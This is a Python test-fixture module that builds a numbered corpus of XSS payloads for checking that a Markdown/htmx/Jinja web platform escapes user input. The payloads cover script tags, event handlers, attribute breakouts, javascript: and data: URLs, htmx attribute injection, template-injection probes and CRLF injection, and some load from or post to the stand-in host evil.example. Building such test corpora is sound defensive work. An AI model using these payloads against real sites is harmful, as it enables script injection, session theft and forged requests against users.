"""An XSS corpus: each vector, if the markup came through unescaped, would run script, load something, change
the page or carry an attribute that htmx would act on. Every vector carries the marker ``xss<n>`` (``n`` its
number) in the dangerous place, so a check can tell an attribute or element that came from user text from the
layout's.

The vectors are written for this platform: raw HTML in Markdown, Markdown links and images, attribute breaking
for values that land in ``value=""``/``title=""``/``alt=""``, htmx attributes, template syntax of Jinja and
others, Unicode tricks, and broken or nested tags that parsers repair differently.
"""

from __future__ import annotations

#: the marker in every vector (case-insensitive checks look for it)
MARK = "xss"

_TEMPLATES = [
    # plain script and its disguises
    "<script>alert('xss{n}')</script>",
    "<script>window.__xss={n}</script>",
    "<SCRIPT>fetch('/xss{n}')</SCRIPT>",
    "<script src=/static/js/xss{n}.js></script>",
    "<script src=//evil.example/xss{n}.js></script>",
    "<scr<script>ipt>alert('xss{n}')</scr</script>ipt>",
    "<<script>alert('xss{n}');//<</script>",
    "</textarea><script>alert('xss{n}')</script>",
    "</title><script>alert('xss{n}')</script>",
    "</script><script>alert('xss{n}')</script>",
    "<script type=module>import('/xss{n}')</script>",
    "<script\x0cx>alert('xss{n}')</script>",
    # event handlers on ordinary elements
    "<img src=x onerror=alert('xss{n}')>",
    "<img src=x onerror=\"window.__xss={n}\" alt=xss{n}>",
    "<img/src=x/onerror=alert('xss{n}')>",
    "<IMG SRC=x OnErRoR=alert('xss{n}')>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xss{n}'>",
    "<body onload=alert('xss{n}')>",
    "<div onmouseover=\"alert('xss{n}')\">hover</div>",
    "<p onclick=alert('xss{n}')>click</p>",
    "<input autofocus onfocus=alert('xss{n}')>",
    "<select autofocus onfocus=alert('xss{n}')></select>",
    "<textarea autofocus onfocus=alert('xss{n}')></textarea>",
    "<details open ontoggle=alert('xss{n}')><summary>s</summary></details>",
    "<video><source onerror=alert('xss{n}')></video>",
    "<audio src=x onerror=alert('xss{n}')>",
    "<marquee onstart=alert('xss{n}')>m</marquee>",
    "<button onfocusin=alert('xss{n}') autofocus>b</button>",
    "<a onpointerenter=alert('xss{n}') href=#>a</a>",
    "<x contenteditable onblur=alert('xss{n}')>x</x>",
    "<style onload=alert('xss{n}')></style>",
    "<img src=\"x\"\nonerror=\"alert('xss{n}')\">",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('xss{n}')>",
    # breaking out of attribute values and text contexts
    "\"><img src=x onerror=alert('xss{n}')>",
    "'><img src=x onerror=alert('xss{n}')>",
    "\" onmouseover=\"alert('xss{n}')\" x=\"",
    "' onfocus='alert(\"xss{n}\")' autofocus='",
    "\" autofocus onfocus=alert('xss{n}') \"",
    "`><img src=x onerror=alert('xss{n}')>",
    "\"/><svg/onload=alert('xss{n}')>",
    "--><script>alert('xss{n}')</script><!--",
    "]]><script>alert('xss{n}')</script>",
    "</p></div><script>alert('xss{n}')</script>",
    "\" hx-get=\"/xss{n}\" hx-trigger=\"load\" x=\"",
    # SVG and MathML
    "<svg onload=alert('xss{n}')>",
    "<svg><script>alert('xss{n}')</script></svg>",
    "<svg><animate onbegin=alert('xss{n}') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('xss{n}')\"><text x=20 y=20>xss</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(xss{n})'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss{n}')>",
    "<math href=\"javascript:alert('xss{n}')\">m</math>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert('xss{n}')</script>\"></iframe></foreignObject></svg>",
    # javascript:, data: and vbscript: URLs, in Markdown and in HTML
    "[click](javascript:alert('xss{n}'))",
    "[click](JaVaScRiPt:alert('xss{n}'))",
    "[click]( javascript:alert('xss{n}'))",
    "[click](java\tscript:alert('xss{n}'))",
    "[click](&#106;avascript:alert('xss{n}'))",
    "[click](javascript&colon;alert('xss{n}'))",
    "[click](<javascript:alert('xss{n}')>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=#xss{n})",
    "[click](vbscript:msgbox('xss{n}'))",
    "![img](javascript:alert('xss{n}'))",
    "![img](x \"title\" onerror=alert('xss{n}'))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#xss{n})",
    "[ref][xss{n}]\n\n[xss{n}]: javascript:alert('xss{n}')",
    "<javascript:alert('xss{n}')>",
    "<a href=\"javascript:alert('xss{n}')\">x</a>",
    "<a href=\" &#14; javascript:alert('xss{n}')\">x</a>",
    "<a href=\"data:text/html,<script>alert('xss{n}')</script>\">x</a>",
    "<a href=//evil.example/xss{n} target=_blank>x</a>",
    "<form action=\"javascript:alert('xss{n}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss{n}')\">go</button>",
    "<object data=\"javascript:alert('xss{n}')\"></object>",
    "<embed src=\"data:text/html,<script>alert('xss{n}')</script>\">",
    "<iframe src=\"javascript:alert('xss{n}')\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('xss{n}')&lt;/script&gt;\"></iframe>",
    "<iframe src=https://evil.example/xss{n}></iframe>",
    # page-level tricks
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss{n}')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/xss{n}\">",
    "<base href=\"https://evil.example/xss{n}/\">",
    "<link rel=stylesheet href=\"https://evil.example/xss{n}.css\">",
    "<link rel=import href=\"/xss{n}\">",
    "<form id=xss{n} method=post action=https://evil.example/xss{n}><input name=csrf_token></form>",
    "<input type=hidden name=csrf_token value=xss{n}>",
    "<img name=getElementById id=xss{n}>",
    "<a id=htmx href=/xss{n}>clobber</a>",
    # CSS
    "<style>body{{background:url('javascript:alert(xss{n})')}}</style>",
    "<div style=\"background:url(javascript:alert('xss{n}'))\">css</div>",
    "<div style=\"width:expression(alert('xss{n}'))\">css</div>",
    "<p style=\"position:fixed;inset:0\" class=xss{n}>overlay</p>",
    "<style>@import 'https://evil.example/xss{n}.css';</style>",
    # htmx attributes injected as HTML
    "<div hx-get=\"/xss{n}\" hx-trigger=\"load\">h</div>",
    "<a hx-post=\"/sign-out\" hx-trigger=\"load\" id=xss{n}>h</a>",
    "<div hx-on:click=\"alert('xss{n}')\">h</div>",
    "<div hx-on::load=\"alert('xss{n}')\">h</div>",
    "<div data-hx-get=\"/xss{n}\" data-hx-trigger=\"load\">h</div>",
    "<div hx-get=\"/xss{n}\" hx-target=\"body\" hx-swap=\"outerHTML\" hx-trigger=\"revealed\">h</div>",
    "<div hx-vals='js:{{a: alert(\"xss{n}\")}}' hx-post=/xss{n} hx-trigger=load>h</div>",
    "<img src=x hx-get=/xss{n} hx-trigger=load>",
    "<div hx-headers='{{\"X-xss\": \"{n}\"}}' hx-get=/xss{n} hx-trigger=load>h</div>",
    "<template><script>alert('xss{n}')</script></template>",
    # template injection (Jinja and friends) and Markdown oddities
    "{{{{ 7*7 }}}} xss{n} {{{{ 1337*1001 }}}}",
    "{{% for x in range(3) %}}xss{n}{{% endfor %}}",
    "{{{{ config }}}} {{{{ self.__init__.__globals__ }}}} xss{n}",
    "${{1337*1001}} #{{1337*1001}} <%= 1337*1001 %> xss{n}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} xss{n}",
    "`<script>alert('xss{n}')</script>`",
    "```html\n<script>alert('xss{n}')</script>\n```",
    "> <script>alert('xss{n}')</script>",
    "* <img src=x onerror=alert('xss{n}')>",
    "<!-- <script>alert('xss{n}')</script> -->",
    "<![CDATA[<script>alert('xss{n}')</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss{n}')>\">",
    "<xmp><script>alert('xss{n}')</script></xmp>",
    "<plaintext><script>alert('xss{n}')</script>",
    # Unicode and encoding tricks
    "\u202e<img src=x onerror=alert('xss{n}')>\u202c",
    "\u200b<script>alert('xss{n}')</script>",
    "\ufeff<svg onload=alert('xss{n}')>",
    "＜script＞alert('xss{n}')＜/script＞",
    "%3Cscript%3Ealert('xss{n}')%3C/script%3E",
    "&lt;script&gt;alert('xss{n}')&lt;/script&gt;",
    "&#60;script&#62;alert('xss{n}')&#60;/script&#62;",
    "\\u003cscript\\u003ealert('xss{n}')\\u003c/script\\u003e",
    "<img src=x onerror=\"\u0061lert('xss{n}')\">",
    "مرحبا \u202b<img src=x onerror=alert('xss{n}')>\u202c",
    # header and calendar line injection (a title that adds an event or a header of its own)
    "Line one\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:xss{n} injected\r\nEND:VEVENT",
    "x\r\nSet-Cookie: xss{n}=1\r\n\r\n<script>alert('xss{n}')</script>",
]

#: the corpus, numbered from 1 (each contains ``xss<n>`` or the marker in its dangerous part)
VECTORS: list[str] = [t.format(n=n) for n, t in enumerate(_TEMPLATES, start=1)]

#: what a template engine would print if it evaluated a vector (1337*1001)
EVALUATED = "1338337"


def packed(limit: int | None, *, start: int = 0, separator: str = " ") -> list[str]:
    """The whole corpus split into as few strings of at most ``limit`` characters as possible (vectors never
    cut), beginning at vector ``start`` (so fields that hold one string each can take different vectors)."""
    order = VECTORS[start:] + VECTORS[:start]
    chunks: list[str] = []
    current = ""
    for vector in order:
        if limit is not None and len(vector) > limit:
            vector = vector[:limit]
        candidate = f"{current}{separator}{vector}" if current else vector
        if limit is not None and len(candidate) > limit:
            chunks.append(current)
            current = vector
        else:
            current = candidate
    if current:
        chunks.append(current)
    return chunks


def every_vector(separator: str = "\n\n") -> str:
    """All vectors in one text (for fields that hold long Markdown)."""
    return separator.join(VECTORS)
